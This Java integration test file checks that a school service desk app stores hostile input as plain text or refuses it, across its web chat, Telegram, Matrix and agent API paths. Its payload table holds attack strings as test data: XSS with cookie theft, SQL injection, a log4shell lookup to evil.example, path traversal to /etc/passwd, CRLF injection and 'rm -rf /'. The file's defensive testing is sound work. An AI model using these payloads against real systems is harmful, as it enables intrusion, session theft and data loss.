package de.schulit.servicedesk.app;

import static de.schulit.servicedesk.app.HostileInputIntegrationTests.assertJsonError;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import de.schulit.servicedesk.matrix.FakeHomeserver;
import de.schulit.servicedesk.telegram.FakeTelegramServer;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * The hostile-input table: every hostile text through every way text enters the app (a follow-up in the web chat,
 * in Telegram and in a Matrix direct chat, an agent's reply through the agent API and in the agents' Matrix room),
 * plus malformed, unsigned, replayed and forged requests against every HTTP entry point and forged or broken Matrix
 * events. Each row asserts the exact answer and what was stored; the last tests check that every Matrix
 * {@code formatted_body} the bot sent shows the hostile texts escaped, and that nothing else changed.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTableIntegrationTests {

    static final String SECRET = "hostile-table-webhook-secret";
    static final long TELEGRAM_CHAT = 6_600_001L;
    private static final Pattern INVISIBLE = Pattern.compile("[\\p{Cc}\\p{Cf}&&[^\\n\\t]]");
    private static final int MAX_TEXT = 4000;

    static final String AGENT = "@jana:" + FakeHomeserver.SERVER;

    static FakeTelegramServer telegram;
    static FakeHomeserver homeserver;
    static String agentRoom;
    static RunningApp app;
    static RunningApp.Chat requester;
    static MatrixChat matrix;
    static AgentRoom room;
    static String ticketRoot;
    static int tooLongAnswers;
    static String ticket;
    static String otherSchoolTicket;
    static JsonNode otherSchoolTicketBefore;
    static String descriptionBefore;
    static int ticketsBefore;

    @BeforeAll
    static void start() {
        telegram = new FakeTelegramServer();
        homeserver = new FakeHomeserver();
        agentRoom = homeserver.createJoinedRoom(Map.of(AGENT, 50));
        app = TelegramWebhookIntegrationTests.inWebhookMode("hostile-table", telegram, SECRET,
                AgentRoom.matrixProperties(homeserver, agentRoom).toArray(String[]::new));
        requester = app.enrolledChat("demo-grundschule", "STAFF", "Rita Requester");
        requester.says(WebChatScenarioIntegrationTests.PRINTER);
        PrintingIntake.choosePrinting(requester);
        ticket = WebChatScenarioIntegrationTests.finishIntake(requester);

        var elsewhere = app.enrolledChat("gs-am-park", "STAFF", "Otto Other");
        elsewhere.says(WebChatScenarioIntegrationTests.PRINTER);
        PrintingIntake.choosePrinting(elsewhere);
        otherSchoolTicket = WebChatScenarioIntegrationTests.finishIntake(elsewhere);
        otherSchoolTicketBefore = app.get("/api/tickets/" + otherSchoolTicket, RunningApp.AGENT_KEY).json();
        descriptionBefore = app.get("/api/tickets/" + ticket, RunningApp.AGENT_KEY).json().get("description").asString();

        // a coordinator of the requester's school on Telegram: sees the school's tickets, may add follow-ups
        telegramTurn(FakeTelegramServer.textUpdateJson(telegram.nextUpdateId(), TELEGRAM_CHAT,
                "/start " + app.enrollmentCode("demo-grundschule", "COORDINATOR")));
        telegramTurn(FakeTelegramServer.textUpdateJson(telegram.nextUpdateId(), TELEGRAM_CHAT, "Tara Telegram"));
        // and one in a Matrix direct chat
        matrix = new MatrixChat(homeserver, app, "@mara:" + FakeHomeserver.SERVER);
        matrix.says("/start " + app.enrollmentCode("demo-grundschule", "COORDINATOR"));
        assertThat(matrix.says("Mara Matrix").text()).contains("Willkommen");
        room = new AgentRoom(app, homeserver, agentRoom);
        ticketRoot = room.rootOf(ticket).path("event_id").asString();
        ticketsBefore = app.get("/api/tickets", RunningApp.AGENT_KEY).json().get("tickets").size();
    }

    @AfterAll
    static void stop() {
        app.close();
        telegram.close();
        homeserver.close();
    }

    // --- hostile texts × the ways text comes in ------------------------------------------------------------------

    record Payload(String name, String text) {
    }

    static final List<Payload> PAYLOADS = List.of(
            new Payload("script tag", "<script>alert(1)</script>"),
            new Payload("img onerror", "<img src=x onerror=alert(document.cookie)>"),
            new Payload("svg onload", "<svg/onload=alert(1)>"),
            new Payload("javascript iframe", "<iframe src=\"javascript:alert(1)\"></iframe>"),
            new Payload("html entities", "&lt;b&gt; &#60;script&#62; &amp;"),
            new Payload("style block", "<style>body{display:none}</style>Hallo"),
            new Payload("formatted_body link spoof", "<a href=\"https://evil.example\">https://schule.example</a>"),
            new Payload("markdown link", "**Wichtig** [hier klicken](javascript:alert(1))"),
            new Payload("markdown code fence", "```\nrm -rf /\n```"),
            new Payload("telegram markdown v2 specials", "_*[]()~`>#+-=|{}.!"),
            new Payload("mention flood", "@everyone @room @channel @here"),
            new Payload("sql drop", "'; DROP TABLE ticket; --"),
            new Payload("sql or", "1' OR '1'='1"),
            new Payload("sql union", "\" UNION SELECT name FROM person --"),
            new Payload("sql wildcards", "%_% \\%"),
            new Payload("backslashes and quotes", "\\' \\\" \\\\ \""),
            new Payload("rtl override", "Rechnung\u202Efdp.exe"),
            new Payload("zero-width characters", "Dru\u200Bcker\u200C kap\u200Dutt\uFEFF"),
            new Payload("nul and bell", "Drucker\u0000\u0007 kaputt"),
            new Payload("ansi escape", "\u001B[31mrot\u001B[0m"),
            new Payload("only control characters", "\u0000\u0001\u0002\u001F"),
            new Payload("only zero-width characters", "\u200B\u200B\u2060"),
            new Payload("only whitespace", "   \t   "),
            new Payload("emoji flood", "\uD83D\uDD25".repeat(1000)),
            new Payload("emoji flood too long", "\uD83D\uDD25".repeat(MAX_TEXT + 100)),
            new Payload("long word at the limit", "A".repeat(MAX_TEXT - 40)),
            new Payload("text too long", "B".repeat(MAX_TEXT + 1)),
            new Payload("zalgo", "D\u0338\u0322\u031Br\u0334u\u0335c\u0337k\u0336e\u0338r\u0337"),
            new Payload("decomposed umlaut", "Dru\u0308cker"),
            new Payload("newline flood", "Zeile\n".repeat(300)),
            new Payload("log4shell", "${jndi:ldap://evil.example/a}"),
            new Payload("template injection", "{{7*7}} ${7*7} <%= 7*7 %>"),
            new Payload("format string", "%s%s%n%x"),
            new Payload("path traversal", "../../../../etc/passwd"),
            new Payload("crlf header injection", "Hallo\r\nSet-Cookie: session=evil"),
            new Payload("json in text", "{\"text\": \"x\", \"optionId\": \"confirm\"}"),
            new Payload("command inside text", "/start AAAAA-AAAAA"),
            new Payload("cyrillic homoglyphs", "Drуcker kарutt"));

    /** A way text enters the app, with the answer it must get and the check that it was stored as expected. */
    enum Way {
        WEB_CHAT_FOLLOW_UP, TELEGRAM_FOLLOW_UP, MATRIX_FOLLOW_UP, AGENT_REPLY, MATRIX_AGENT_REPLY
    }

    static Stream<Arguments> texts() {
        List<Arguments> rows = new ArrayList<>();
        for (Way way : Way.values()) {
            for (Payload payload : PAYLOADS) {
                rows.add(Arguments.of(way + ": " + payload.name(), way, payload.text()));
            }
        }
        return rows.stream();
    }

    /** What the app keeps of a text: NFC, no control or format characters but line breaks and tabs, stripped. */
    static String cleaned(String text) {
        return INVISIBLE.matcher(Normalizer.normalize(text, Normalizer.Form.NFC)).replaceAll("").strip();
    }

    /** A follow-up is refused as too long or empty, or stored as it was cleaned. */
    static void assertFollowUpAnswered(String input, String reply) {
        String expected = cleaned(input.substring(input.indexOf(": ") + 2));
        if (cleaned(input).codePointCount(0, cleaned(input).length()) > MAX_TEXT) {
            assertThat(reply).contains("zu lang");
        } else if (expected.isEmpty()) {
            assertThat(reply).contains("Bitte schreiben Sie den Nachtrag direkt dahinter");
        } else {
            assertThat(reply).contains("Danke, Ihr Nachtrag ist bei Ticket " + ticket + " eingetragen");
            assertThat(lastHistoryText("REQUESTER_MESSAGE")).isEqualTo(expected);
        }
    }

    @Order(1)
    @ParameterizedTest(name = "{0}")
    @MethodSource("texts")
    void hostileTextIsStoredAsPlainTextOrRefusedClearly(String name, Way way, String text) {
        String expected = cleaned(text);
        boolean empty = expected.isEmpty();
        switch (way) {
            case WEB_CHAT_FOLLOW_UP -> {
                String input = "Nachtrag zu " + ticket + ": " + text;
                String reply = requester.says(input).text();
                assertFollowUpAnswered(input, reply);
            }
            case TELEGRAM_FOLLOW_UP -> {
                String input = "Nachtrag zu " + ticket + ": " + text;
                int before = telegram.sentTo(TELEGRAM_CHAT).size();
                telegramTurn(FakeTelegramServer.textUpdateJson(telegram.nextUpdateId(), TELEGRAM_CHAT, input));
                await().atMost(Duration.ofSeconds(20)).until(() -> telegram.sentTo(TELEGRAM_CHAT).size() > before);
                FakeTelegramServer.Sent reply = telegram.sentTo(TELEGRAM_CHAT).get(before);
                assertThat(reply.parseMode()).as("plain text, no formatting can be injected").isNull();
                assertFollowUpAnswered(input, reply.text());
            }
            case MATRIX_FOLLOW_UP -> {
                String input = "Nachtrag zu " + ticket + ": " + text;
                String reply = matrix.says(input).text();
                assertThat(matrix.last).hasSize(1);
                assertFollowUpAnswered(input, reply);
            }
            case MATRIX_AGENT_REPLY -> {
                String cursor = newestMessageId(requester);
                int replies = historyTexts("AGENT_REPLY").size();
                room.saysInThread(AGENT, ticketRoot, text);
                if (empty) {
                    assertThat(historyTexts("AGENT_REPLY")).as("nothing stored").hasSize(replies);
                    assertThat(requester.messagesAfter(cursor)).as("nothing relayed").isEmpty();
                } else if (expected.codePointCount(0, expected.length()) > MAX_TEXT) {
                    int answers = ++tooLongAnswers;
                    await().atMost(Duration.ofSeconds(20)).until(() -> room.thread(ticketRoot).stream()
                            .filter(post -> post.contains("zu lang (höchstens 4000 Zeichen)")).count() == answers);
                    assertThat(historyTexts("AGENT_REPLY")).as("nothing stored").hasSize(replies);
                    assertThat(requester.messagesAfter(cursor)).as("nothing relayed").isEmpty();
                } else {
                    assertThat(lastHistoryText("AGENT_REPLY")).isEqualTo(expected);
                    JsonNode relayed = requester.messagesAfter(cursor);
                    assertThat(relayed).hasSize(1);
                    assertThat(relayed.get(0).get("text").asString()).as("relayed as text, unchanged").contains(expected);
                }
            }
            case AGENT_REPLY -> {
                String cursor = newestMessageId(requester);
                RunningApp.Response response = app.post("/api/tickets/" + ticket + "/messages",
                        Map.of("text", text, "internal", false), RunningApp.AGENT_KEY);
                if (empty || expected.length() > MAX_TEXT) {
                    assertJsonError(response, 400);
                    assertThat(requester.messagesAfter(cursor)).as("nothing relayed").isEmpty();
                } else {
                    assertThat(response.status()).as(response.body()).isEqualTo(200);
                    assertThat(lastHistoryText("AGENT_REPLY")).isEqualTo(expected);
                    JsonNode relayed = requester.messagesAfter(cursor);
                    assertThat(relayed).hasSize(1);
                    assertThat(relayed.get(0).get("text").asString()).as("relayed as text, unchanged")
                            .contains(expected);
                }
            }
        }
    }

    // --- malformed, unsigned, replayed and forged requests ----------------------------------------------------------

    record Request(String method, String path, String body, String contentType, String apiKey, Map<String, String> headers) {
    }

    static Request json(String method, String path, String body, String apiKey) {
        return new Request(method, path, body, "application/json", apiKey, Map.of());
    }

    static Request webhook(String body, String secret) {
        return new Request("POST", "/api/telegram/webhook", body, "application/json", null,
                secret == null ? Map.of() : Map.of("X-Telegram-Bot-Api-Secret-Token", secret));
    }

    static String session() {
        return requester.sessionId;
    }

    static String messages() {
        return "/api/chat/sessions/" + session() + "/messages";
    }

    static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    static String callback(int updateId, String data) {
        return "{\"update_id\":" + updateId + ",\"callback_query\":{\"id\":\"cb" + updateId + "\",\"from\":{\"id\":"
                + TELEGRAM_CHAT + ",\"is_bot\":false,\"first_name\":\"Tara\"},\"message\":{\"message_id\":424242,"
                + "\"chat\":{\"id\":" + TELEGRAM_CHAT + ",\"type\":\"private\"},\"date\":1767000000,\"text\":\"alt\"},"
                + "\"chat_instance\":\"1\",\"data\":\"" + data + "\"}}";
    }

    /** Rows: a request built lazily (it may need the session or ticket) and the status and error text it must get. */
    static Stream<Arguments> requests() {
        String agent = RunningApp.AGENT_KEY;
        String admin = RunningApp.ADMIN_KEY;
        Object[][] rows = {
                // web chat API
                {"chat: truncated JSON", (Row) () -> json("POST", messages(), "{\"text\": ", null), 400, ""},
                {"chat: JSON array", (Row) () -> json("POST", messages(), "[\"Hallo\"]", null), 400, ""},
                {"chat: JSON string", (Row) () -> json("POST", messages(), "\"Hallo\"", null), 400, ""},
                {"chat: JSON null", (Row) () -> json("POST", messages(), "null", null), 400, ""},
                {"chat: text is a number", (Row) () -> json("POST", messages(), "{\"text\": 42}", null), 400, "text"},
                {"chat: optionId is an object", (Row) () -> json("POST", messages(), "{\"optionId\": {\"a\": 1}}", null), 400, "optionId"},
                {"chat: text and optionId", (Row) () -> json("POST", messages(), "{\"text\": \"a\", \"optionId\": \"b\"}", null), 400, "genau eines"},
                {"chat: empty object", (Row) () -> json("POST", messages(), "{}", null), 400, "genau eines"},
                {"chat: deeply nested JSON", (Row) () -> json("POST", messages(), "[".repeat(5000) + "]".repeat(5000), null), 400, ""},
                {"chat: body over the size limit", (Row) () -> json("POST", messages(), "{\"text\": \"" + "x".repeat(70_000) + "\"}", null), 413, "zu groß"},
                {"chat: form instead of JSON", (Row) () -> new Request("POST", messages(), "text=Hallo", "text/plain", null, Map.of()), 415, ""},
                {"chat: unknown session", (Row) () -> json("POST", "/api/chat/sessions/" + "A".repeat(43) + "/messages", "{\"text\": \"Hallo\"}", null), 404, "nicht (mehr)"},
                {"chat: guessed session polled", (Row) () -> json("GET", "/api/chat/sessions/" + "B".repeat(43) + "/messages", null, null), 404, "nicht (mehr)"},
                {"chat: session id one character off", (Row) () -> json("GET", "/api/chat/sessions/" + session().substring(1) + "x/messages", null, null), 404, "nicht (mehr)"},
                {"chat: sql in session id", (Row) () -> json("GET", "/api/chat/sessions/" + encoded("' OR '1'='1") + "/messages", null, null), 404, ""},
                {"chat: session hash used as id", (Row) () -> json("GET", "/api/chat/sessions/" + sha256(session()) + "/messages", null, null), 404, ""},
                {"chat: negative cursor", (Row) () -> json("GET", messages() + "?after=-1", null, null), 400, "after"},
                {"chat: cursor overflow", (Row) () -> json("GET", messages() + "?after=99999999999999999999", null, null), 400, "after"},
                {"chat: cursor in exponent form", (Row) () -> json("GET", messages() + "?after=1e9", null, null), 400, "after"},
                {"chat: DELETE on sessions", (Row) () -> json("DELETE", "/api/chat/sessions", null, null), 405, ""},
                // agent and admin API
                {"agent: no key", (Row) () -> json("GET", "/api/tickets", null, null), 401, "API-Schlüssel"},
                {"agent: wrong key", (Row) () -> json("GET", "/api/tickets", null, "x".repeat(40)), 401, "API-Schlüssel"},
                {"agent: admin key", (Row) () -> json("GET", "/api/tickets/" + ticket, null, admin), 403, "berechtigt nicht"},
                {"agent: key with one character more", (Row) () -> json("GET", "/api/tickets", null, agent + "x"), 401, ""},
                {"agent: sql as ticket number", (Row) () -> json("GET", "/api/tickets/" + encoded("SD-2026-00001' OR '1'='1"), null, agent), 404, ""},
                {"agent: reply to an unknown ticket", (Row) () -> json("POST", "/api/tickets/SD-2026-99999/messages", "{\"text\": \"Hallo\"}", agent), 404, ""},
                {"agent: truncated JSON reply", (Row) () -> json("POST", "/api/tickets/" + ticket + "/messages", "{\"text\": ", agent), 400, ""},
                {"agent: internal is a string", (Row) () -> json("POST", "/api/tickets/" + ticket + "/messages", "{\"text\": \"x\", \"internal\": \"ja\"}", agent), 400, ""},
                {"agent: unknown status", (Row) () -> json("POST", "/api/tickets/" + ticket + "/status", "{\"status\": \"DELETED\"}", agent), 400, "Unbekannter Status"},
                {"agent: unknown status filter", (Row) () -> json("GET", "/api/tickets?status=" + encoded("NEW' --"), null, agent), 400, ""},
                {"admin: agent key", (Row) () -> json("POST", "/api/schools/demo-grundschule/enrollment-codes", "{}", agent), 403, "berechtigt nicht"},
                {"admin: unknown school", (Row) () -> json("POST", "/api/schools/" + encoded("x' OR 1=1") + "/enrollment-codes", "{}", admin), 404, ""},
                {"admin: zero uses", (Row) () -> json("POST", "/api/schools/demo-grundschule/enrollment-codes", "{\"maxUses\": 0}", admin), 400, ""},
                {"admin: negative validity", (Row) () -> json("POST", "/api/schools/demo-grundschule/enrollment-codes", "{\"validDays\": -1}", admin), 400, ""},
                {"classify: no key", (Row) () -> json("POST", "/api/classify", "{\"text\": \"Drucker\"}", null), 401, ""},
                {"classify: empty text", (Row) () -> json("POST", "/api/classify", "{\"text\": \"\\u200B\"}", agent), 400, "text"},
                // Telegram webhook
                {"webhook: unsigned", (Row) () -> webhook(FakeTelegramServer.textUpdateJson(telegram.nextUpdateId(), TELEGRAM_CHAT, "Hallo"), null), 401, "Webhook-Geheimnis"},
                {"webhook: wrong secret", (Row) () -> webhook(FakeTelegramServer.textUpdateJson(telegram.nextUpdateId(), TELEGRAM_CHAT, "Hallo"), SECRET + "x"), 401, "Webhook-Geheimnis"},
                {"webhook: secret of another case", (Row) () -> webhook(FakeTelegramServer.textUpdateJson(telegram.nextUpdateId(), TELEGRAM_CHAT, "Hallo"), SECRET.toUpperCase()), 401, ""},
                {"webhook: malformed JSON", (Row) () -> webhook("{\"update_id\": ", SECRET), 400, "update_id"},
                {"webhook: no update_id", (Row) () -> webhook("{\"message\": {}}", SECRET), 400, "update_id"},
                {"webhook: update_id as text", (Row) () -> webhook("{\"update_id\": \"7\"}", SECRET), 400, "update_id"},
        };
        return Stream.of(rows).map(r -> Arguments.of(r[0], r[1], r[2], r[3]));
    }

    interface Row {
        Request build();
    }

    @Order(2)
    @ParameterizedTest(name = "{0}")
    @MethodSource("requests")
    void malformedOrUnauthorisedRequestsGetAClearError(String name, Row row, int status, String errorContains) {
        Request request = row.build();
        RunningApp.Response response = send(request);
        assertJsonError(response, status);
        assertThat(response.json().get("error").asString()).contains(errorContains);
    }

    @Order(3)
    @Test
    void replayedAndForgedTelegramUpdatesTakeEffectOnceOrNotAtAll() {
        int update = telegram.nextUpdateId();
        String followUp = FakeTelegramServer.textUpdateJson(update, TELEGRAM_CHAT, "Nachtrag zu " + ticket + ": einmalig");
        assertThat(send(webhook(followUp, SECRET)).status()).isEqualTo(200);
        awaitProcessed(update);
        assertThat(send(webhook(followUp, SECRET)).status()).as("a replay is acknowledged").isEqualTo(200);
        assertThat(send(webhook(followUp, SECRET)).status()).isEqualTo(200);
        awaitProcessed(update);
        assertThat(historyTexts("REQUESTER_MESSAGE")).filteredOn("einmalig"::equals).hasSize(1);

        // a button press for a message the bot never sent, with data it never offered
        for (String data : List.of("confirm", "svc:drucken", "../../admin", "x".repeat(64))) {
            int before = telegram.sentTo(TELEGRAM_CHAT).size();
            int forged = telegram.nextUpdateId();
            assertThat(send(webhook(callback(forged, data), SECRET)).status()).isEqualTo(200);
            awaitProcessed(forged);
            await().atMost(Duration.ofSeconds(20)).until(() -> telegram.sentTo(TELEGRAM_CHAT).size() > before);
            assertThat(telegram.sentTo(TELEGRAM_CHAT).get(before).text()).as(data).contains("nicht mehr aktuell");
        }
        // an update of a kind the bot does not use is stored and ignored
        int edited = telegram.nextUpdateId();
        assertThat(send(webhook("{\"update_id\": " + edited + ", \"edited_message\": {\"message_id\": 1}}", SECRET)).status())
                .isEqualTo(200);
        awaitProcessed(edited);
    }

    /** Rows: an event in the requester's Matrix direct chat (type, content of any JSON shape) and its answer. */
    static Stream<Arguments> matrixEvents() {
        String ignored = null;
        return Stream.of(
                Arguments.of("text without body", "m.room.message", "{\"msgtype\": \"m.text\"}", "Ihre Nachricht war leer"),
                Arguments.of("body null", "m.room.message", "{\"msgtype\": \"m.text\", \"body\": null}", "Ihre Nachricht war leer"),
                Arguments.of("body an object", "m.room.message", "{\"msgtype\": \"m.text\", \"body\": {\"text\": \"x\"}}", "Ihre Nachricht war leer"),
                Arguments.of("body an array", "m.room.message", "{\"msgtype\": \"m.text\", \"body\": [\"/hilfe\"]}", "Ihre Nachricht war leer"),
                Arguments.of("no msgtype", "m.room.message", "{\"body\": \"Hallo\"}", "Das kann ich leider nicht verarbeiten"),
                Arguments.of("msgtype a number", "m.room.message", "{\"msgtype\": 7, \"body\": \"Hallo\"}", "Das kann ich leider nicht verarbeiten"),
                Arguments.of("unknown msgtype", "m.room.message", "{\"msgtype\": \"com.example.evil\", \"body\": \"Hallo\"}", "Das kann ich leider nicht verarbeiten"),
                Arguments.of("location", "m.room.message", "{\"msgtype\": \"m.location\", \"body\": \"Schule\", \"geo_uri\": \"geo:52.4,13.0\"}", "Das kann ich leider nicht verarbeiten"),
                Arguments.of("content a string", "m.room.message", "\"Nachtrag\"", "Das kann ich leider nicht verarbeiten"),
                Arguments.of("content an array", "m.room.message", "[1, 2, 3]", "Das kann ich leider nicht verarbeiten"),
                Arguments.of("image without url", "m.room.message", "{\"msgtype\": \"m.image\", \"body\": \"x.jpg\"}", "konnte ich leider nicht laden"),
                Arguments.of("image from a foreign server", "m.room.message", "{\"msgtype\": \"m.image\", \"body\": \"x.jpg\", \"url\": \"mxc://evil.example/abc\"}", "konnte ich leider nicht laden"),
                Arguments.of("file with an http url", "m.room.message", "{\"msgtype\": \"m.file\", \"body\": \"x.pdf\", \"url\": \"http://127.0.0.1:1/x.pdf\"}", "konnte ich leider nicht laden"),
                Arguments.of("file with path traversal", "m.room.message", "{\"msgtype\": \"m.file\", \"body\": \"x.pdf\", \"url\": \"mxc://fake.example/../../etc/passwd\"}", "konnte ich leider nicht laden"),
                Arguments.of("image claiming 1 GB", "m.room.message", "{\"msgtype\": \"m.image\", \"body\": \"x.jpg\", \"url\": \"mxc://fake.example/nothing\", \"info\": {\"size\": 1073741824}}", "zu groß"),
                Arguments.of("size a string", "m.room.message", "{\"msgtype\": \"m.image\", \"body\": \"x.jpg\", \"url\": \"mxc://fake.example/nothing\", \"info\": {\"size\": \"viel\"}}", "konnte ich leider nicht laden"),
                Arguments.of("edit of an earlier message", "m.room.message", "{\"msgtype\": \"m.text\", \"body\": \"* Nachtrag zu SD-2026-00001: anders\", \"m.new_content\": {\"msgtype\": \"m.text\", \"body\": \"anders\"}, \"m.relates_to\": {\"rel_type\": \"m.replace\", \"event_id\": \"$earlier\"}}", ignored),
                Arguments.of("notice from the user", "m.room.message", "{\"msgtype\": \"m.notice\", \"body\": \"/hilfe\"}", ignored),
                Arguments.of("reply fallback only", "m.room.message", "{\"msgtype\": \"m.text\", \"body\": \"> <@servicedesk:fake.example> Hallo\\n\\n\", \"m.relates_to\": {\"m.in_reply_to\": {\"event_id\": \"$x\"}}}", "Ihre Nachricht war leer"));
    }

    @Order(3)
    @ParameterizedTest(name = "matrix: {0}")
    @MethodSource("matrixEvents")
    void forgedOrBrokenMatrixEventsGetAClearAnswerOrAreIgnored(String name, String type, String content, String answer) {
        matrix.settle(homeserver.userSendsRaw(matrix.room, matrix.user, type, content));
        if (answer == null) {
            assertThat(matrix.last).as("ignored").isEmpty();
        } else {
            assertThat(matrix.last).hasSize(1);
            assertThat(matrix.text()).contains(answer);
        }
        assertThat(matrix.says("/hilfe").text()).as("the chat goes on").contains("/tickets");
    }

    @Order(3)
    @Test
    void forgedThreadsAndBrokenEventsInTheAgentsRoomChangeNothing() {
        List<String> history = historyTexts("AGENT_REPLY");
        room.awaitSent();
        int posts = homeserver.botMessages(agentRoom).size();
        // a thread of no ticket: the agents' own conversation, a command there gets the hint to use a ticket's thread
        room.saysInThread(AGENT, "$no-such-root", "Hallo, wer kümmert sich?");
        room.saysInThread(AGENT, "$no-such-root", "!status geschlossen");
        // an edit of a command, a notice, a body that is no text, content that is no object
        room.awaitProcessed(homeserver.userSendsRaw(agentRoom, AGENT, "m.room.message", "{\"msgtype\": \"m.text\", "
                + "\"body\": \"* !status geschlossen\", \"m.relates_to\": {\"rel_type\": \"m.replace\", \"event_id\": \"$x\"}}"));
        room.awaitProcessed(homeserver.userSendsRaw(agentRoom, AGENT, "m.room.message",
                "{\"msgtype\": \"m.notice\", \"body\": \"!tickets\"}"));
        room.awaitProcessed(homeserver.userSendsRaw(agentRoom, AGENT, "m.room.message", "{\"msgtype\": \"m.text\", "
                + "\"body\": {\"cmd\": \"!status geschlossen\"}, \"m.relates_to\": {\"rel_type\": \"m.thread\", \"event_id\": \""
                + ticketRoot + "\"}}"));
        room.awaitProcessed(homeserver.userSendsRaw(agentRoom, AGENT, "m.room.message", "[\"!tickets\"]"));
        room.awaitSent();

        List<String> answers = homeserver.botMessages(agentRoom).stream().skip(posts).map(AgentRoom::body).toList();
        assertThat(answers).hasSize(1);
        assertThat(answers.get(0)).contains("Bitte antworten Sie im Thread des Tickets");
        assertThat(historyTexts("AGENT_REPLY")).isEqualTo(history);
        assertThat(app.get("/api/tickets/" + ticket, RunningApp.AGENT_KEY).json().get("status").asString()).isEqualTo("NEW");
    }

    /**
     * Every Matrix message the bot sent (the requester's answers, the ticket's root and thread, which quote all the
     * hostile texts above) has a {@code formatted_body} whose only markup is the bot's own: remove that, and the rest
     * is the escaped body, not one character of it interpreted.
     */
    @Order(4)
    @Test
    void everyFormattedBodyEscapesTheHostileTexts() {
        room.awaitSent();
        matrix.awaitDelivered();
        List<JsonNode> sent = new ArrayList<>(homeserver.botMessages(agentRoom));
        sent.addAll(homeserver.botMessages(matrix.room));
        for (JsonNode message : sent) {
            JsonNode content = message.path("content");
            if (!content.path("msgtype").asString().equals("m.notice")) {
                continue; // files
            }
            String html = content.path("formatted_body").asString();
            String text = html.replace("<br>", "\n").replaceAll("</?(b|ol|li|p)>", "");
            assertThat(text).as(html).doesNotContain("<", ">", "\"", "'");
            String unescaped = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"")
                    .replace("&#39;", "'").replace("&amp;", "&");
            if (!html.contains("<ol>") && !html.contains("<p>")) {
                assertThat(unescaped).isEqualTo(content.path("body").asString().replace("\r\n", "\n"));
            }
        }
        String thread = String.join("\n", room.thread(ticketRoot));
        for (Payload payload : PAYLOADS) {
            String expected = cleaned(payload.text());
            if (!expected.isEmpty() && expected.codePointCount(0, expected.length()) + 40 < MAX_TEXT) {
                assertThat(thread).as(payload.name()).contains(expected);
            }
        }
    }

    @Order(5)
    @Test
    void nothingElseChanged() {
        // the rows above only added history to one ticket
        assertThat(app.get("/api/tickets", RunningApp.AGENT_KEY).json().get("tickets").size()).isEqualTo(ticketsBefore);
        assertThat(app.get("/api/tickets/" + otherSchoolTicket, RunningApp.AGENT_KEY).json()).isEqualTo(otherSchoolTicketBefore);
        JsonNode mine = app.get("/api/tickets/" + ticket, RunningApp.AGENT_KEY).json();
        assertThat(mine.get("serviceId").asString()).isEqualTo("drucken");
        assertThat(mine.get("status").asString()).isEqualTo("NEW");
        assertThat(mine.get("description").asString()).startsWith(WebChatScenarioIntegrationTests.PRINTER)
                .as("the composed description as filed").isEqualTo(descriptionBefore);
    }

    // --- helpers ----------------------------------------------------------------------------------------------------

    static RunningApp.Response send(Request request) {
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(app.baseUrl() + request.path()))
                .timeout(Duration.ofSeconds(20)).method(request.method(), request.body() == null
                        ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(request.body()));
        if (request.contentType() != null && request.body() != null) {
            builder.header("Content-Type", request.contentType());
        }
        if (request.apiKey() != null) {
            builder.header("X-API-Key", request.apiKey());
        }
        request.headers().forEach(builder::header);
        try {
            HttpResponse<String> response = HttpClient.newHttpClient().send(builder.build(), HttpResponse.BodyHandlers.ofString());
            JsonNode json = response.headers().firstValue("Content-Type").orElse("").contains("json") && !response.body().isEmpty()
                    ? tools.jackson.databind.json.JsonMapper.builder().build().readTree(response.body()) : null;
            return new RunningApp.Response(response.statusCode(), json, response.body(), response.headers());
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    static void telegramTurn(String updateJson) {
        int updateId = Integer.parseInt(updateJson.replaceAll(".*\"update_id\":(\\d+).*", "$1"));
        assertThat(send(webhook(updateJson, SECRET)).status()).isEqualTo(200);
        awaitProcessed(updateId);
    }

    static void awaitProcessed(int updateId) {
        JdbcClient jdbc = app.bean(JdbcClient.class);
        await().atMost(Duration.ofSeconds(20)).until(() -> jdbc
                .sql("SELECT COUNT(*) FROM telegram_update WHERE update_id = :id AND processed_at IS NOT NULL")
                .param("id", updateId).query(Long.class).single() == 1);
    }

    static List<String> historyTexts(String type) {
        List<String> texts = new ArrayList<>();
        app.get("/api/tickets/" + ticket, RunningApp.AGENT_KEY).json().get("history").forEach(entry -> {
            if (entry.get("type").asString().equals(type)) {
                texts.add(entry.get("text").asString());
            }
        });
        return texts;
    }

    static String lastHistoryText(String type) {
        List<String> texts = historyTexts(type);
        return texts.get(texts.size() - 1);
    }

    static String newestMessageId(RunningApp.Chat chat) {
        String cursor = "0";
        for (JsonNode page = chat.messagesAfter(cursor); !page.isEmpty(); page = chat.messagesAfter(cursor)) {
            cursor = page.get(page.size() - 1).get("id").asString();
        }
        return cursor;
    }

    static String sha256(String text) {
        try {
            return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256")
                    .digest(text.getBytes(StandardCharsets.US_ASCII)));
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
